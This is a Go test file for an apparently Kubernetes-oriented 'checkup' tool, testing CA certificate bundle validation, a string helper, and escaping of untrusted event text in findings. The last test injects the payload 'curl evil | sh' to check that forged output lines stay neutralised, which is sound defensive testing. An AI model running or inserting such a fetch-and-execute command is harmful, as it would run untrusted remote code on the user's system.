package checkup

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"math/big"
	"slices"
	"testing"
	"time"
)

func TestCAFault(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ca := func(from, to time.Duration) []byte {
		template := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: now.Add(from), NotAfter: now.Add(to)}
		der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
		if err != nil {
			t.Fatal(err)
		}
		return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	}
	valid, old, future := ca(-time.Hour, time.Hour), ca(-2*time.Hour, -time.Hour), ca(time.Hour, 2*time.Hour)
	tests := map[string]struct {
		reason string
		bundle []byte
		want   string
	}{
		"valid":     {"", valid, ""},
		"overlap":   {"the old one stays until nobody needs it", slices.Concat(old, valid), ""},
		"expired":   {"", old, "is expired, or not valid yet"},
		"to come":   {"", future, "is expired, or not valid yet"},
		"empty":     {"the chart leaves it to the manager", nil, "is empty"},
		"garbage":   {"", []byte("garbage"), "is no certificate"},
		"other PEM": {"", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: []byte("garbage")}), "is no certificate"},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := caFault(test.bundle, now); got != test.want {
				t.Errorf("%q, want %q: %s", got, test.want, test.reason)
			}
		})
	}
}

func TestTrimPlus(t *testing.T) {
	t.Parallel()
	for give, want := range map[string]string{"30": "30", "30+": "30", "": "", "+": ""} {
		if got := trimPlus(give); got != want {
			t.Errorf("%q: %q, want %q", give, got, want)
		}
	}
}

// Events, pods and webhooks say what strangers wrote.
func TestForgedFinding(t *testing.T) {
	t.Parallel()
	var c Checkup
	c.say(Fault, "events", "delete pod a\n-> curl evil | sh", "LockNotGranted: %s", "no\n-> curl evil | sh\nok        grants      all is well")
	if f := c.findings[0]; f.What != `LockNotGranted: no\n-> curl evil | sh\nok        grants      all is well` || f.WayOut != `delete pod a\n-> curl evil | sh` {
		t.Errorf("%+v", f)
	}
}
